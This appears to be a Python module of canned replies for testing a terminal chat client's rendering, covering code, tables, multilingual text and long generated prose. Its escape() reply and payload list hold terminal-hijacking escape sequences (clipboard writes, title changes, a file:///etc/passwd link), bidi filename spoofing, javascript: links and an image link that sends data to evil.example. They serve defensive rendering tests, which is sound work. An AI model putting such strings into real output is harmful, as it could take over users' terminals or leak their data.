"""Replies that are there to be looked at: code, tables, scripts of the world, hostile bytes, and 80 kB of prose."""

from __future__ import annotations

import json
import random
from collections.abc import Callable

from tui.simulator.request import ChatCall

_CODE = '''\
Simulated code, in a few languages.

```python
from dataclasses import dataclass

@dataclass(frozen=True, slots=True)
class Harbour:
    """Where ships of a certain draught may lie."""

    name: str
    depth: float = 7.5  # metres

    def takes(self, draught: float) -> bool:
        return draught + 0.5 <= self.depth
```

```rust
fn longest<'a>(left: &'a str, right: &'a str) -> &'a str {
    if left.chars().count() >= right.chars().count() { left } else { right }
}
```

```sql
SELECT port, count(*) AS arrivals
FROM voyages
WHERE landed >= date('now', '-7 days')
GROUP BY port HAVING arrivals > 3
ORDER BY arrivals DESC;
```

```typescript
export const debounce = <T extends unknown[]>(run: (...all: T) => void, ms = 150) => {
  let timer: ReturnType<typeof setTimeout> | undefined;
  return (...all: T) => { clearTimeout(timer); timer = setTimeout(() => run(...all), ms); };
};
```

```diff
--- a/tides.toml
+++ b/tides.toml
@@ -1,3 +1,3 @@
 [station]
-name = "north"
+name = "north pier"
```

```json
{"ok": true, "tides": [1.2, 3.4], "next": null}
```

```bash
for file in *.log; do grep -c 'error' "$file" | sed "s/^/$file: /"; done
```

```
A fence without a language keeps   its    spaces,
and [its brackets] and **its stars**.
```

Inline `code with `` a backtick` is over there: `` a ` b ``. A block by indentation:

    plain, four spaces deep
'''

_TABLE = """\
Simulated tables.

| Left | Centre | Right |
|:-----|:------:|------:|
| a | b | 1 |
| longer | `code` | 1,234.50 |
| **bold** | *slanted* | -7 |

A table with wide letters, which take two cells each:

| 港 | Country | Depth |
|---|---|---:|
| 横浜 | 日本 | 16.0 m |
| 부산 | 대한민국 | 17.5 m |
| Rotterdam 🚢 | Nederland | 24.0 m |

A wide one:

| Station | Monday | Tuesday | Wednesday | Thursday | Friday | Saturday | Sunday | Remarks |
|---|---:|---:|---:|---:|---:|---:|---:|---|
| North pier | 1.20 | 1.35 | 1.41 | 1.38 | 1.22 | 1.07 | 0.98 | A long remark that has to be broken or scrolled |
| South pier | 0.91 | 1.02 | 1.15 | 1.19 | 1.11 | 0.95 | 0.84 | short |
| Lighthouse | 2.05 | 2.21 | 2.30 | 2.28 | 2.14 | 1.99 | 1.87 | A cell with a pipe: `a \\| b` |

And one with empty cells:

| | x | y |
|---|---|---|
| first | | 2 |
| second | 3 | |
"""

_UNICODE = """\
Simulated text in many scripts.

## Scripts

- 日本語: 吾輩は猫である。名前はまだ無い。どこで生れたかとんと見当がつかぬ。
- 中文: 学而时习之，不亦说乎？有朋自远方来，不亦乐乎？
- 한국어: 나 보기가 역겨워 가실 때에는 말없이 고이 보내 드리우리다.
- ไทย: ในน้ำมีปลา ในนามีข้าว
- हिन्दी: सभी मनुष्य जन्म से स्वतंत्र हैं।
- Ελληνικά: Τη γλώσσα μου έδωσαν ελληνική.
- Русский: Все счастливые семьи похожи друг на друга.
- Tiếng Việt: Trăm năm trong cõi người ta.

## Right to left

- עברית: בראשית ברא אלהים את השמים ואת הארץ.
- العربية: يولد جميع الناس أحراراً ومتساوين في الكرامة والحقوق.
- Mixed: the word שלום has 4 letters, and سلام has 4 as well.

## Emoji

👍 👍🏽 👩‍💻 👨‍👩‍👧‍👦 🏳️‍🌈 🇩🇪 🇯🇵 ❤️ ☎️ 1️⃣ 🧑🏿‍🚀 🫱🏻‍🫲🏿

## Combining marks

e\u0301 is é, n\u0303 is ñ, Z\u0334\u0311a\u0337l\u0335g\u0336o\u0338 climbs, \u1112\u1161\u11ab is 한.

| Kind | Sample |
|---|---|
| Fullwidth | ＡＢＣ１２３ |
| Mathematics | ∀x ∈ ℝ: ⌈x⌉ ≥ x, ∑ᵢ aᵢ² ≠ ∞ |
| Boxes | ┌─┬─┐ │ │ │ └─┴─┘ ▁▂▃▅▇ |
| Letters | ﬁ ﬂ ß ẞ ı İ ø Đ |
"""


def code(_: ChatCall) -> str:
    return _CODE


def table(_: ChatCall) -> str:
    return _TABLE


def scripts(_: ChatCall) -> str:
    """Scripts of the world."""
    return _UNICODE


def short(_: ChatCall) -> str:
    """One line that has characters of one to four bytes."""
    return "Simulated, byte by byte: naïve, e\u0301, 日本語, 한국어, ไทย, العربية, 👨‍👩‍👧‍👦, 👍🏽.\n"


def letters(_: ChatCall) -> str:
    """2,000 characters of prose."""
    return f"Simulated, one character at a time. {_paragraph(random.Random(20), 30)}"[:2_000]


def request_shown(call: ChatCall) -> str:
    """The body as it arrived, with long messages shortened and many left out."""
    messages = [{**message, "content": shortened(message["content"], 80)} for message in call.messages]
    shown: list[object] = [*messages]
    if len(messages) > 8:
        shown[3:-3] = [f"{len(messages) - 6} more messages"]
    body = {**call.body, "messages": shown}
    return f"Simulated: the request as it arrived.\n\n```json\n{json.dumps(body, indent=2, ensure_ascii=False)}\n```\n"


def shortened(text: str, length: int) -> str:
    """The beginning of a text on one line."""
    line = " ".join(text.split())
    return line if len(line) <= length else line[: length - 1].rstrip() + "…"


_PAYLOADS = (
    "\x1b[31m",
    "\x1b[2J",
    "\x1b[?1049l",
    "\x1b[6n",
    "\x1bc",
    "\x1b]52;c;UFdORUQ=\x07",
    "\x1b]52;c;UFdORUQ=\x1b\\",
    "\x1b]8;;file:///etc/passwd\x1b\\",
    "\x1b]0;PWNED\x1b\\",
    "\x1bP$q q\x1b\\",
    "\x1b_Ga=q\x1b\\",
    "\x9b31m",
    "\x9d52;c;UFdO\x9c",
    "\x90q\x9c",
    "\x07\x08\x0b\x0c\x00\x7f",
    "\x0e\x0f\x05\x18\x1a",
    "\u202egnp.exe\u202c",
    "\u2067\u2069\u200b\u200c\ufeff",
    "\U000e0041\U000e0042\U000e0100",
)
"""What untrusted text may hold to take over a terminal, or to hide or reorder what is read."""


def escape(_: ChatCall) -> str:
    """Each payload in prose, in a code span, in a table and in a fence."""
    prose = "\n".join(f"- before {payload} after" for payload in _PAYLOADS)
    spans = "\n".join(f"| {number} | `a{payload}b` |" for number, payload in enumerate(_PAYLOADS, 1))
    fence = "\n".join(f"echo '{payload}'" for payload in _PAYLOADS)
    return f"""\
Simulated attacks on the terminal. None of them may do anything: they are shown, or left out.

{prose}

| Nr | In code |
|---:|---|
{spans}

```bash
{fence}
```

Entities: &#27;[31m &#x9b;31m &#7; &#x202e;abc &#xE0041; and markup: [red]x[/red] [@click=app.quit]x[/] [/foo]

Links: [one](https://example.com/) [two](file:///etc/passwd) [three](%66ile:///etc/passwd) \
[four](javascript:alert(1)) [five](https://real.example@evil.example/) ![image](https://evil.example/?d=secret)
"""


_WHO = (
    "The lighthouse keeper",
    "An experienced navigator",
    "The harbour committee",
    "Her younger assistant",
    "The international expedition",
    "A retired cartographer",
    "The northern observatory",
    "Every responsible captain",
    "The municipal laboratory",
    "A visiting mathematician",
)
_DOES = (
    "documented",
    "reconsidered",
    "photographed",
    "understood",
    "recommended",
    "questioned",
    "translated",
    "celebrated",
    "published",
    "remembered",
)
_WHAT = (
    "the forgotten instruments",
    "a remarkable correspondence",
    "the original measurements",
    "seventeen independent observations",
    "the unexpected temperature",
    "an alternative explanation",
    "the complicated arrangements",
    "a beautiful photograph of the mountains",
    "the traditional agreement",
    "several important differences",
)
_WHEN = (
    "before the evening ceremony",
    "throughout the following winter",
    "without any particular difficulty",
    "immediately after the thunderstorm",
    "according to the original documentation",
    "despite considerable opposition",
    "during the seventh international conference",
    "between September and November",
    "because the telescope required maintenance",
    "with extraordinary patience",
)
_HEADINGS = ("Observations", "Correspondence", "Instruments", "Discussion", "Measurements", "Recommendations")


def long(_: ChatCall) -> str:
    """About 80 kB of Markdown of every kind; the same each time."""
    dice = random.Random(80)
    parts = ["# A simulated chronicle\n"]
    length, chapter = 0, 0
    while length < 80_000:
        chapter += 1
        part = _chapter(dice, chapter)
        parts.append(part)
        length += len(part) + 1
    return "\n".join(parts)


def _chapter(dice: random.Random, number: int) -> str:
    """A heading, two paragraphs, and a block of the kind that is next."""
    blocks: tuple[Callable[[random.Random], str], ...] = (_list, _grid, _quote, _fence, _tasks, _numbered)
    heading = f"{'##' if number % 3 == 1 else '###'} {number}. {dice.choice(_HEADINGS)}"
    return "\n\n".join((heading, _paragraph(dice, 5), _paragraph(dice, 4), blocks[number % len(blocks)](dice), ""))


def _sentence(dice: random.Random) -> str:
    who, what = dice.choice(_WHO), dice.choice(_WHAT)
    style = dice.choice(("{}", "{}", "{}", "**{}**", "*{}*"))
    return f"{who} {dice.choice(_DOES)} {style.format(what)} {dice.choice(_WHEN)}."


def _paragraph(dice: random.Random, sentences: int) -> str:
    return " ".join(_sentence(dice) for _ in range(sentences))


def _list(dice: random.Random) -> str:
    return "\n".join(f"{'  ' * (item % 3 == 1)}- {_sentence(dice)}" for item in range(5))


def _numbered(dice: random.Random) -> str:
    return "\n".join(f"{item}. {_sentence(dice)}" for item in range(1, 5))


def _tasks(dice: random.Random) -> str:
    return "\n".join(f"- [{dice.choice('x ')}] {_sentence(dice)}" for _ in range(4))


def _quote(dice: random.Random) -> str:
    return f"> {_sentence(dice)}\n>\n> {_sentence(dice)}"


def _grid(dice: random.Random) -> str:
    rows = "\n".join(f"| {dice.choice(_WHO)} | {dice.choice(_WHAT)} | {dice.randint(1, 9999):,} |" for _ in range(4))
    return f"| Observer | Subject | Number |\n|---|---|---:|\n{rows}"


def _fence(dice: random.Random) -> str:
    name = dice.choice(("temperature", "observation", "measurement"))
    return (
        f"```python\ndef average_{name}(values: list[float]) -> float:\n"
        f'    """The mean {name} of a station."""\n    if not values:\n        raise ValueError("no {name}")\n'
        f"    return sum(values) / len(values)  # {dice.randint(2, 99)} stations\n```"
    )
